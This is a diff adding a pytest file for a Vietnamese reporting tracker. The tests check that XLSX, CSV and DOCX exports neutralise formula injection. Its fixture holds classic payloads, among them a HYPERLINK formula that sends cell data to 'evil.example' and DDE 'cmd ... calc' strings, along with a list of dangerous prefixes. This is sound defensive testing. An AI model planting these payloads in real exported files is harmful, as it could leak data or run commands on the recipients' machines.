@@ -1,0 +1,166 @@
+"""Text a unit typed never becomes a formula or a live link in an exported file.
+
+A report from "Sở Ngoại vụ" carries the classic CSV/formula-injection payloads in its
+result text, notes and file name; every export is opened with a real reader.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import zipfile
+from datetime import date
+
+import docx
+import openpyxl
+import pytest
+
+from tracker.exports import csvfiles, draft, report, workbook
+
+AS_OF = date(2019, 7, 26)
+PLAN = "84-KH/BTGTU"
+UNIT = "Sở Ngoại vụ"
+FILE_NAME = "=cmd|' /C calc'!A0.xlsx"
+PAYLOADS = {
+    # (task, period): (result text, note)
+    ("NV01", ""): (
+        '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
+        "+1+cmd|' /C calc'!A0",
+    ),
+    ("NV02", "2019-H2"): ("-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("NV03", "2019-H2"): ("\t=1+1", "\r=2+2"),
+    ("NV04", "2019-H2"): ("Đã làm\x07 xong", "http://evil.example/"),
+}
+DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.fixture
+def export(demo_store):
+    with demo_store.write() as tx:
+        report_id = tx.run(
+            "demo_report_insert",
+            file_name=FILE_NAME,
+            sha256="hostile",
+            size_bytes=0,
+            reported_on=date(2019, 7, 25),
+            row_count=len(PAYLOADS),
+            unit=UNIT,
+            plan=PLAN,
+        )[0][0]
+        tx.run_many(
+            "demo_row_insert",
+            [
+                dict(
+                    report_id=report_id,
+                    row_no=n,
+                    task_code=task,
+                    period=period,
+                    progress="in_progress",
+                    completed_on=None,
+                    result_text=result,
+                    note=note,
+                    raw_status="Đang thực hiện",
+                )
+                for n, ((task, period), (result, note)) in enumerate(PAYLOADS.items(), 1)
+            ],
+        )
+    return report.collect(demo_store, AS_OF, PLAN)
+
+
+def test_the_payloads_reach_the_export_tables(export):
+    mine = export.detail[export.detail["Tệp báo cáo"] == FILE_NAME]
+    assert len(mine) == len(PAYLOADS)
+    assert set(mine["Kết quả"]) == {result for result, _note in PAYLOADS.values()}
+
+
+def test_xlsx_keeps_the_text_as_text_and_no_cell_is_a_formula(export, tmp_path):
+    path = tmp_path / "bao-cao.xlsx"
+    path.write_bytes(workbook.summary_workbook(export))
+    wb = openpyxl.load_workbook(path)
+    for ws in wb:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+    ws = wb["Chi tiết"]
+    header = [c.value for c in ws[workbook.HEADER_ROW]]
+    col = {name: header.index(name) for name in ("Kết quả", "Ghi chú", "Tệp báo cáo")}
+    found = {}
+    for row in ws.iter_rows(min_row=workbook.HEADER_ROW + 1):
+        if row[col["Tệp báo cáo"]].value == FILE_NAME:
+            found[row[col["Kết quả"]].value] = row
+    expected = {result.replace("\x07", "") for result, _note in PAYLOADS.values()}
+    assert set(found) == expected
+    for row in found.values():
+        for cell in (row[col["Kết quả"]], row[col["Ghi chú"]], row[col["Tệp báo cáo"]]):
+            assert cell.data_type == "s"
+            text = cell.value.replace("\n", "\r")  # XML may normalise a bare CR
+            assert cell.quotePrefix == text.startswith(DANGEROUS), cell.value
+    assert ws.cell(1, 1).hyperlink is None
+    assert all(c.hyperlink is None for r in ws.iter_rows() for c in r)
+
+
+def test_xlsx_package_holds_no_formula_link_or_external_reference(export, tmp_path):
+    path = tmp_path / "bao-cao.xlsx"
+    path.write_bytes(workbook.summary_workbook(export))
+    with zipfile.ZipFile(path) as archive:
+        names = archive.namelist()
+        assert not any("externalLink" in n for n in names)
+        for name in names:
+            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
+                xml = archive.read(name).decode("utf-8")
+                assert "<f>" not in xml and "<f " not in xml
+                assert "<hyperlink" not in xml  # the payload text itself may appear
+
+
+def test_csv_neutralises_every_field_that_could_start_a_formula(export, tmp_path):
+    path = tmp_path / "chi-tiet.csv"
+    path.write_bytes(csvfiles.table_csv(export.detail))
+    with open(path, encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(DANGEROUS), value
+    mine = [r for r in rows if r["Tệp báo cáo"] == "'" + FILE_NAME]
+    assert len(mine) == len(PAYLOADS)
+    results = {r["Kết quả"] for r in mine}
+    assert "'" + PAYLOADS[("NV01", "")][0] in results
+    assert "'-2+3" in results and "'\t=1+1" in results
+    assert "Đã làm\x07 xong" in results  # harmless text is left exactly as typed
+    notes = {r["Ghi chú"] for r in mine}
+    assert "'\r=2+2" in notes and "http://evil.example/" in notes
+
+
+def test_csv_of_every_table_is_safe(export):
+    for name, content in csvfiles.csv_files(export).items():
+        for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))):
+            assert not any(v.startswith(DANGEROUS) for v in row), name
+
+
+def test_docx_carries_the_text_literally_with_no_field_or_link(export, tmp_path):
+    path = tmp_path / "bao-cao.docx"
+    path.write_bytes(draft.report_draft(export))
+    document = docx.Document(str(path))
+    assert document.paragraphs  # opens
+    with zipfile.ZipFile(path) as archive:
+        body = archive.read("word/document.xml").decode("utf-8")
+        rels = archive.read("word/_rels/document.xml.rels").decode("utf-8")
+    assert "instrText" not in body and "fldSimple" not in body and "hyperlink" not in body
+    assert 'TargetMode="External"' not in rels
+
+
+def test_control_characters_never_break_the_files(export, tmp_path):
+    broken = export.detail.copy()
+    broken.loc[0, "Kết quả"] = "a\x00b\x1fc"
+    from dataclasses import replace
+
+    odd = replace(
+        export,
+        detail=broken,
+        by_unit=export.by_unit.assign(
+            **{"Đơn vị": export.by_unit["Đơn vị"].str.cat(["\x0b"] * len(export.by_unit))}
+        ),
+    )
+    wb = openpyxl.load_workbook(io.BytesIO(workbook.summary_workbook(odd)))
+    assert wb["Chi tiết"].cell(workbook.HEADER_ROW + 1, 10).value == "abc"
+    document = docx.Document(io.BytesIO(draft.report_draft(odd)))
+    assert "\x0b" not in document.tables[1].rows[1].cells[1].text
